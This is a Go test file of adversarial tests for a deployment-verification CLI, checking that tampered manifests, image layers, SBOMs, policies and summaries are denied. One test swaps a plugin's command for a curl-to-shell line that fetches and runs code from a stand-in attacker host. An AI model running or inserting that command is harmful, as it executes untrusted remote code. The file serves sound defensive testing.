package cli_test

import (
	"encoding/json"
	"errors"
	"net"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"sync"
	"syscall"
	"testing"
	"time"

	"github.com/trustgate/trustgate/cmd/trustgate/internal/cli"
)

// The adversarial tests of the verify review (issue 9), through the CLI:
// each starts from the example deployment, SBOM-attested and with a signed
// policy, that passes, and breaks one unsigned input.

// edit rewrites a file of the deployment with f and puts it back at the
// end of the (sub)test.
func (e verifyEnv) edit(t *testing.T, rel string, f func(string) string) {
	t.Helper()
	path := filepath.Join(e.dir, rel)
	orig, err := os.ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	changed := f(string(orig))
	if changed == string(orig) {
		t.Fatalf("%s: the edit changed nothing", rel)
	}
	writeFile(t, path, changed)
	t.Cleanup(func() { writeFile(t, path, string(orig)) })
}

// denied runs verify with args and checks exit 1 with every want in the
// output.
func (e verifyEnv) denied(t *testing.T, tr *transcript, args []string, want ...string) string {
	t.Helper()
	code, stdout, stderr := tr.run(args...)
	if code != cli.ExitDenied {
		t.Fatalf("exit %d, want %d (denied)\n%s%s", code, cli.ExitDenied, stdout, stderr)
	}
	for _, w := range want {
		if !strings.Contains(stdout+stderr, w) {
			t.Fatalf("output lacks %q:\n%s%s", w, stdout, stderr)
		}
	}
	return stdout + stderr
}

func TestVerifyBindsWhatRuns(t *testing.T) {
	tr := &transcript{t: t}
	e := newVerifyEnv(t, tr)
	if code, stdout, stderr := tr.run(e.args()...); code != 0 {
		t.Fatalf("the example does not verify: exit %d\n%s%s", code, stdout, stderr)
	}
	// Finding 2: how a component is started.
	t.Run("plugin command replaced", func(t *testing.T) {
		e.edit(t, "stack.yaml", func(s string) string {
			return strings.Replace(s, `command: ["python3", "-m", "pii_redactor"]`, `command: ["sh", "-c", "curl https://evil.example/x | sh"]`, 1)
		})
		e.denied(t, tr, e.args(), "FAIL  manifest", "FAIL  plugin/pii-redactor  command: expected [\"python3\",\"-m\",\"pii_redactor\"]")
	})
	t.Run("gateway args added", func(t *testing.T) {
		e.edit(t, "stack.yaml", func(s string) string {
			return strings.Replace(s, "  path: bin/trustgate-gateway\n", "  path: bin/trustgate-gateway\n  args: [\"--insecure-dev\"]\n", 1)
		})
		e.denied(t, tr, e.args(), "FAIL  manifest", "FAIL  gateway/trustgate-gateway  command:")
	})
	t.Run("manifest changed in a way no component shows", func(t *testing.T) {
		// Any edit at all (here a comment) makes the manifest's digest
		// another than the signed one.
		e.edit(t, "stack.yaml", func(s string) string { return s + "\n# edited\n" })
		e.denied(t, tr, e.args(), "FAIL  manifest  manifest: expected the manifest's digest named by an attestation")
	})
	// Finding 3: guardrails deleted.
	t.Run("plugins and agents removed", func(t *testing.T) {
		e.edit(t, "stack.yaml", func(s string) string {
			i, j := strings.Index(s, "plugins:\n"), strings.Index(s, "providers:\n")
			return s[:i] + s[j:]
		})
		e.denied(t, tr, e.args(), "FAIL  plugin/guardrail", "expected present in the deployment", "FAIL  plugin/pii-redactor", "FAIL  agent/audit-agent")
	})
	tr.sweep(e.key)
}

// Finding 1 and 7: an OCI layout is hashed blob by blob, read only from
// regular files inside the deployment's folder, and the CLI never hangs.
func TestVerifyHashesImageLayouts(t *testing.T) {
	tr := &transcript{t: t}
	e := newVerifyEnv(t, tr)
	layout := filepath.Join(e.dir, "images", "gateway")
	var idx struct {
		Manifests []struct{ Digest string }
	}
	data, err := os.ReadFile(filepath.Join(layout, "index.json"))
	if err != nil || json.Unmarshal(data, &idx) != nil || len(idx.Manifests) != 1 {
		t.Fatalf("example layout: %v", err)
	}
	manifestBlob := filepath.Join(layout, "blobs", "sha256", strings.TrimPrefix(idx.Manifests[0].Digest, "sha256:"))
	var m struct {
		Layers []struct{ Digest string }
	}
	data, _ = os.ReadFile(manifestBlob)
	if json.Unmarshal(data, &m) != nil || len(m.Layers) == 0 {
		t.Fatal("example manifest has no layers")
	}
	layerRel := filepath.Join("images", "gateway", "blobs", "sha256", strings.TrimPrefix(m.Layers[0].Digest, "sha256:"))
	manifestRel, _ := filepath.Rel(e.dir, manifestBlob)

	t.Run("a layer's bytes replaced, same size", func(t *testing.T) {
		e.edit(t, layerRel, func(s string) string { b := []byte(s); b[len(b)/2] ^= 0xff; return string(b) })
		e.denied(t, tr, e.args(), "image blob does not match its descriptor", "gateway-image")
	})
	t.Run("the manifest blob replaced under the signed digest", func(t *testing.T) {
		e.edit(t, manifestRel, func(s string) string { return strings.Replace(s, `"schemaVersion":2`, `"schemaVersion": 2`, 1) })
		e.denied(t, tr, e.args(), "image blob does not match its descriptor")
	})
	for _, c := range []struct {
		name, rel string
		make      func(path string) error
		want      string
	}{
		{"index.json is a FIFO", filepath.Join("images", "gateway", "index.json"), func(p string) error { return syscall.Mkfifo(p, 0o644) }, "unsupported file type"},
		{"a layer is a link to /dev/zero", layerRel, func(p string) error { return os.Symlink("/dev/zero", p) }, "image blob does not match"},
		{"index.json links out of the deployment's folder", filepath.Join("images", "gateway", "index.json"), func(p string) error {
			outside := filepath.Join(t.TempDir(), "index.json")
			if err := os.WriteFile(outside, data, 0o644); err != nil {
				return err
			}
			return os.Symlink(outside, p)
		}, "escapes"},
	} {
		t.Run(c.name, func(t *testing.T) {
			path := filepath.Join(e.dir, c.rel)
			orig, err := os.ReadFile(path)
			if err != nil {
				t.Fatal(err)
			}
			os.Remove(path)
			t.Cleanup(func() { os.Remove(path); writeFile(t, path, string(orig)) })
			if err := c.make(path); err != nil {
				t.Fatal(err)
			}
			done := make(chan struct{})
			go func() {
				defer close(done)
				e.denied(t, tr, e.args(), c.want)
			}()
			select {
			case <-done:
			case <-time.After(60 * time.Second):
				t.Fatal("verify hangs")
			}
		})
	}
	tr.sweep(e.key)
}

// Finding 7: the binary stops on SIGTERM even while it waits on a registry
// that never answers.
func TestBinaryStopsOnSignal(t *testing.T) {
	if testing.Short() {
		t.Skip("builds the trustgate binary")
	}
	bin := filepath.Join(t.TempDir(), "trustgate")
	if out, err := exec.Command("go", "build", "-o", bin, "github.com/trustgate/trustgate/cmd/trustgate").CombinedOutput(); err != nil {
		t.Fatalf("go build: %v\n%s", err, out)
	}
	tr := &transcript{t: t}
	_, pub := keyPair(tr, t.TempDir(), "ecdsa-p256")
	cmd := exec.Command(bin, "verify", "image", silentRegistry(t)+"/ai/gateway:1.0", "--key", pub)
	if err := cmd.Start(); err != nil {
		t.Fatal(err)
	}
	time.Sleep(500 * time.Millisecond)
	if err := cmd.Process.Signal(syscall.SIGTERM); err != nil {
		t.Fatal(err)
	}
	done := make(chan error, 1)
	go func() { done <- cmd.Wait() }()
	select {
	case err := <-done:
		var ee *exec.ExitError
		if !errors.As(err, &ee) || ee.ExitCode() == 0 {
			t.Fatalf("after SIGTERM: %v, want a non-zero exit", err)
		}
	case <-time.After(30 * time.Second):
		_ = cmd.Process.Kill()
		t.Fatal("trustgate did not stop on SIGTERM")
	}
}

// silentRegistry listens on loopback, accepts connections and never
// answers; it returns its host:port.
func silentRegistry(t *testing.T) string {
	t.Helper()
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	var conns []net.Conn
	var mu sync.Mutex
	go func() {
		for {
			c, err := ln.Accept()
			if err != nil {
				return
			}
			mu.Lock()
			conns = append(conns, c)
			mu.Unlock()
		}
	}()
	t.Cleanup(func() {
		ln.Close()
		mu.Lock()
		for _, c := range conns {
			c.Close()
		}
		mu.Unlock()
	})
	return ln.Addr().String()
}

// Finding 5: a policy governs the deployment of its own name; a lax policy
// signed by the same key for another deployment neither passes this one
// nor moves its rollback state.
func TestVerifyRefusesAnotherDeploymentsPolicy(t *testing.T) {
	tr := &transcript{t: t}
	e := newVerifyEnv(t, tr)
	sandbox := filepath.Join(e.dir, "sandbox.yaml")
	prod, _ := os.ReadFile(e.policy)
	lax := strings.Replace(string(prod), `name: "example-gateway-deployment"`, `name: "sandbox"`, 1)
	lax = strings.Replace(lax, "version: 1", "version: 9", 1) + "default: audit\n"
	writeFile(t, sandbox, lax)
	if code, _, stderr := tr.run("policy", "sign", sandbox, "--key", e.key); code != 0 {
		t.Fatalf("signing the sandbox policy: %s", stderr)
	}
	e.edit(t, filepath.Join("plugins", "pii-redactor", "pii_redactor", "__init__.py"), func(s string) string { return s + "#" })
	args := []string{"verify", "--stack", e.stack, "--policy", sandbox, "--trust-root", e.pub, "--bundle", e.sbomBundle, "--state", e.state}
	e.denied(t, tr, args, "policy governs another deployment", `the policy is for "sandbox", the deployment is "example-gateway-deployment"`)
	// The production policy still loads (no rollback recorded) and denies
	// the tampered plugin.
	e.denied(t, tr, e.args(), "FAIL  plugin/pii-redactor  components[3].digests")
	tr.sweep(e.key)
}

// attestSBOM signs an edited copy of the deployment's SBOM about the
// manifest and the Python plugin, as a signer would, and returns the
// bundle.
func (e verifyEnv) attestSBOM(t *testing.T, tr *transcript, edit func(string) string) string {
	t.Helper()
	orig, err := os.ReadFile(filepath.Join(e.dir, "sbom.cdx.json"))
	if err != nil {
		t.Fatal(err)
	}
	changed := edit(string(orig))
	if changed == string(orig) {
		t.Fatal("the SBOM edit changed nothing")
	}
	dir := t.TempDir()
	pred := writeFile(t, filepath.Join(dir, "sbom.json"), changed)
	bundle := filepath.Join(dir, "sbom.bundle.json")
	args := []string{"attest", "--predicate", pred, "--type", "cyclonedx", "--key", e.key, "--bundle", bundle}
	for _, sub := range []string{"stack.yaml", "bin/trustgate-gateway", "bin/guardrail", "bin/audit-agent", "plugins/pii-redactor", "images/gateway", "models/tiny-guard.gguf"} {
		args = append(args, "--subject", filepath.Join(e.dir, sub))
	}
	if code, _, stderr := tr.run(args...); code != 0 {
		t.Fatalf("attest: %s", stderr)
	}
	return bundle
}

// Finding 6 and 9: the deny list sees every package of the signed SBOM,
// however it nests or spells it, and an SBOM that two readers would read
// two ways is refused.
func TestVerifyDenyListCannotBeEvaded(t *testing.T) {
	tr := &transcript{t: t}
	e := newVerifyEnv(t, tr)
	const anchor = `"purl": "pkg:pypi/litellm@1.82.6"`
	cases := []struct {
		name, purl, want string
	}{
		{"nested two levels deep", `"purl": "pkg:pypi/litellm@1.82.6", "components": [{"type": "library", "name": "vendored", "purl": "pkg:generic/vendored@1", "components": [{"type": "library", "name": "litellm", "version": "1.82.7", "purl": "pkg:pypi/litellm@1.82.7"}]}]`, "sbom.deny[0]: expected no pkg:pypi/litellm in >=1.82.7,<=1.82.8"},
		{"a duplicate qualifier", `"purl": "pkg:pypi/litellm@1.82.7?a=b&a=c"`, "every package identified by a purl that parses"},
		{"a qualifier without a key", `"purl": "pkg:pypi/litellm@1.82.7?=x"`, "every package identified by a purl that parses"},
		{"a slash before the version", `"purl": "pkg:pypi/litellm/@1.82.7"`, "every package identified by a purl that parses"},
		{"a namespace pypi has not", `"purl": "pkg:pypi/ns/litellm@1.82.7"`, "every package identified by a purl that parses"},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			bundle := e.attestSBOM(t, tr, func(s string) string { return strings.Replace(s, anchor, c.purl, 1) })
			args := []string{"verify", "--stack", e.stack, "--policy", e.policy, "--trust-root", e.pub, "--bundle", bundle, "--state", e.state}
			e.denied(t, tr, args, "FAIL  plugin/pii-redactor", c.want)
		})
	}
	t.Run("components key spelled Components", func(t *testing.T) {
		bundle := e.attestSBOM(t, tr, func(s string) string { return strings.Replace(s, `"components": [`, `"Components": [`, 1) })
		args := []string{"verify", "--stack", e.stack, "--policy", e.policy, "--trust-root", e.pub, "--bundle", bundle, "--state", e.state}
		e.denied(t, tr, args, "differs only in case", "FAIL  manifest")
	})
	tr.sweep(e.key)
}

// Finding 8 and 10: a verification summary vouches only for what passed in
// enforce mode, under the policy it names; a FAILED one never verifies.
func TestVerifySummaryCannotLaunder(t *testing.T) {
	tr := &transcript{t: t}
	e := newVerifyEnv(t, tr)
	pol, _ := os.ReadFile(e.policy)
	// Staging: the same deployment, the Python plugin in audit mode.
	staging := filepath.Join(e.dir, "staging.yaml")
	writeFile(t, staging, strings.Replace(string(pol), "  - name: \"pii-redactor\"\n    kind: plugin\n", "  - name: \"pii-redactor\"\n    kind: plugin\n    mode: audit\n", 1))
	// Production: the plugin pinned by nothing but a summary from release.
	prod := filepath.Join(e.dir, "prod.yaml")
	prodText := strings.Replace(string(pol), "version: 1", "version: 2", 1)
	i := strings.Index(prodText, "  - name: \"pii-redactor\"")
	j := strings.Index(prodText[i:], "    capabilities: {}") + i
	prodText = prodText[:i] + "  - name: \"pii-redactor\"\n    kind: plugin\n    role: transform\n    signers: {anyOf: [release]}\n    attestations: [{type: vsa, signers: {anyOf: [release]}}]\n" + prodText[j:]
	writeFile(t, prod, prodText)
	for _, p := range []string{staging, prod} {
		if code, _, stderr := tr.run("policy", "sign", p, "--key", e.key); code != 0 {
			t.Fatalf("policy sign %s: %s", p, stderr)
		}
	}
	e.edit(t, filepath.Join("plugins", "pii-redactor", "pii_redactor", "__init__.py"), func(s string) string { return s + "#" })
	vsa := filepath.Join(t.TempDir(), "staging.vsa.json")
	stagingArgs := []string{"verify", "--stack", e.stack, "--policy", staging, "--trust-root", e.pub, "--bundle", e.sbomBundle, "--state", filepath.Join(t.TempDir(), "s"), "--vsa", vsa, "--key", e.key}
	code, stdout, stderr := tr.run(stagingArgs...)
	if code != 0 || !strings.Contains(stdout, "AUDIT  plugin/pii-redactor") {
		t.Fatalf("staging: exit %d\n%s%s", code, stdout, stderr)
	}
	// The summary passes, but does not name the audited plugin.
	plugin := filepath.Join(e.dir, "plugins", "pii-redactor")
	if code, stdout, _ := tr.run("verify-attestation", "--bundle", vsa, "--key", e.pub, "--type", "vsa", plugin); code != cli.ExitDenied || !strings.Contains(stdout, "not a subject") {
		t.Fatalf("the staging summary vouches for the audited plugin: exit %d: %s", code, stdout)
	}
	prodArgs := []string{"verify", "--stack", e.stack, "--policy", prod, "--trust-root", e.pub, "--bundle", e.sbomBundle, "--bundle", vsa, "--state", e.state}
	e.denied(t, tr, prodArgs, "FAIL  plugin/pii-redactor  components[3].signers")

	// Finding 10: a FAILED summary never verifies.
	failed := filepath.Join(t.TempDir(), "failed.vsa.json")
	code, _, stderr = tr.run(e.args("--vsa", failed, "--key", e.key, "--state", filepath.Join(t.TempDir(), "s"))...)
	if code != cli.ExitDenied {
		t.Fatalf("the tampered deployment: exit %d: %s", code, stderr)
	}
	gateway := filepath.Join(e.dir, "bin", "trustgate-gateway")
	code, stdout, _ = tr.run("verify-attestation", "--bundle", failed, "--key", e.pub, "--type", "vsa", gateway)
	if code != cli.ExitDenied || !strings.Contains(stdout, "does not say PASSED") {
		t.Fatalf("a FAILED summary: exit %d: %s", code, stdout)
	}
	tr.sweep(e.key)
}

// Finding 11: a file of secrets given as --bundle shows up in no report.
func TestVerifyReportsQuoteNoBundleContent(t *testing.T) {
	tr := &transcript{t: t}
	e := newVerifyEnv(t, tr)
	const secret = "sk-proj-Q7TRUSTGATEkeyQ7TRUSTGATEkeyQ7"
	tr.secrets = append(tr.secrets, secret, secret[8:28])
	secrets := filepath.Join(t.TempDir(), "creds.json")
	for _, body := range []string{`{"` + secret + `": 1}`, `{"mediaType": "` + secret + `"}`, `{"OPENAI_API_KEY": "` + secret + `"}`} {
		writeFile(t, secrets, body)
		for _, o := range []string{"text", "json", "sarif"} {
			code, _, _ := tr.run(e.args("--bundle", secrets, "-o", o)...)
			if code != 0 {
				t.Fatalf("-o %s: exit %d", o, code)
			}
		}
		tr.run("verify-attestation", "--bundle", secrets, "--key", e.pub, e.stack)
		tr.run("verify-attestation", "--bundle", secrets, "--key", e.pub, "-o", "json", e.stack)
	}
	tr.sweep(e.key)
}
